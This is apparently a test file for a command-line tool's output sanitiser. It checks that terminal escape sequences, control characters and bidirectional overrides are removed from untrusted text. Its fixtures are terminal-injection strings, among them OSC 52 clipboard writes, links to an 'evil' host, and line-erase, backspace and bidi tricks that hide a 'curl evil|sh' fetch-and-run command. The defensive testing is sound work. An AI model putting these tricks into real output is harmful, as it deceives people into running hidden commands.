/** What others wrote, on a person's terminal. */
import { assert, describe, it } from "@effect/vitest"
import * as fc from "fast-check"
import { makePlain, plain, safeJson, visible, visibleLine } from "../../src/cli/printable.js"

const unsafe = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/

const attacks: Readonly<Record<string, readonly [string, string]>> = {
  "the clipboard (OSC 52)": ["a\u001b]52;c;Y3VybA==\u0007b", "ab"],
  "the window's title": ["a\u001b]0;title\u001b\\b", "ab"],
  "a link to elsewhere (OSC 8)": ["\u001b]8;;https://evil\u001b\\safe\u001b]8;;\u001b\\", "safe"],
  "a device control string": ["a\u001bPq#0;2;0;0;0\u001b\\b", "ab"],
  "the other screen": ["\u001b[?1049hgone\u001b[?1049l", "gone"],
  "erasing what stands there": ["curl evil|sh\r\u001b[2Kls", "curl evil|sh\nls"],
  "8-bit controls": ["a\u009b2Kb\u009d0;x\u009cc", "abc"],
  "backspaces": ["rm\b\bls", "rmls"],
  "hidden text": ["\u001b[8mrm\u001b[0m", "rm"],
  "text in another order": ["ls \u202Ehs|live lruc", "ls hs|live lruc"],
  "a sequence that is never ended": ["a\u001b]0;b", "a"]
}

describe("plain", () => {
  it.each(Object.entries(attacks))("leaves out %s", (_, [text, expected]) => {
    assert.strictEqual(plain(text), expected)
  })

  it("is the same however the text is cut into pieces, and never unsafe", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "\u001b",
        "[",
        "]",
        "8;;",
        "\u0007",
        "\\",
        "\r",
        "\n",
        "\u009b",
        "31m",
        "\u202e",
        "x",
        "é",
        "\u0000"
      ),
      fc.string({ unit: "binary" })
    )
    fc.assert(fc.property(fc.array(piece), (pieces) => {
      const feed = makePlain()
      const inPieces = pieces.map(feed).join("") + feed("\n")
      assert.strictEqual(inPieces, plain(`${pieces.join("")}\n`))
      assert.notMatch(inPieces, unsafe)
    }))
  })
})

describe("visible", () => {
  it("spells what cannot be seen", () => {
    assert.strictEqual(
      visible("ls\u001b[2K\r\u202ehs\u200b\u00a0\u{e0041}\u0085\ud83d"),
      "ls\\x1b[2K\\r\\u{202e}hs\\u{200b}\\xa0\\u{e0041}\\x85\\u{d83d}"
    )
    assert.strictEqual(visibleLine("a\nb\tc"), "a\\nb\\tc")
    assert.strictEqual(visible("é 漢字 \u{1f600} |"), "é 漢字 \u{1f600} |")
  })

  it("lets no control character through, whatever the text", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => {
      assert.notMatch(visible(text), unsafe)
      assert.notMatch(visibleLine(text), /[\n\t]/)
    }))
  })
})

describe("safeJson", () => {
  it("is the same JSON without anything a terminal acts on", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => {
      const json = safeJson(JSON.stringify({ text }))
      assert.strictEqual(JSON.parse(json).text, text)
      assert.notMatch(json, unsafe)
    }))
  })
})
